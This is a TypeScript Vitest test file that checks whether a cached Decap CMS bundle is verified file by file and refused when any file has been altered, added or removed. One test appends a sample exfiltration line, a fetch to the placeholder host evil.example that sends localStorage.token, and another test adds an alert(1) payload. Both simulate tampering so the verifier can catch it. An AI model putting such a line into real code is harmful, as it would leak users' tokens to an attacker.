import { appendFileSync, cpSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { decapDist, verifiedDecapFiles } from './decap-bundle.ts'

// The checks run on a copy of the cached bundle: the cache itself may be shared with other checkouts.
let copy: string
const copied = () => {
  copy = mkdtempSync(join(tmpdir(), 'decap-dist-'))
  cpSync(decapDist(), copy, { recursive: true })
  return copy
}
afterEach(() => rmSync(copy, { recursive: true, force: true }))

describe("the editor's Decap bundle", () => {
  it('is served file by file as Decap ships it', () => {
    const files = verifiedDecapFiles(copied()).map(({ name }) => name)
    expect(files).toContain('decap-cms.js')
    expect(files.length).toBeGreaterThan(50)
  })

  it('is refused when a file was changed, with the way to restore it', () => {
    appendFileSync(join(copied(), 'decap-cms.js'), '\nfetch("https://evil.example/?" + localStorage.token)\n')
    expect(() => verifiedDecapFiles(copy)).toThrow(
      new RegExp(
        `^The web editor's file ${join(copy, 'decap-cms.js')} was changed since it was checked, so the editor is not ` +
          'built from it\\. To restore it, delete the folder node_modules/\\.cache/decap-cms-[\\d.]+ and run the ' +
          'command again: it fetches Decap afresh from npm and checks it\\.$',
      ),
    )
  })

  it('is refused when a file was added or removed', () => {
    appendFileSync(join(copied(), 'extra.decap-cms.js'), 'alert(1)')
    expect(() => verifiedDecapFiles(copy)).toThrow(/extra\.decap-cms\.js is not part of Decap CMS/)
    rmSync(join(copy, 'extra.decap-cms.js'))
    rmSync(join(copy, '103.decap-cms.js'))
    expect(() => verifiedDecapFiles(copy)).toThrow(/103\.decap-cms\.js is missing/)
  })
})
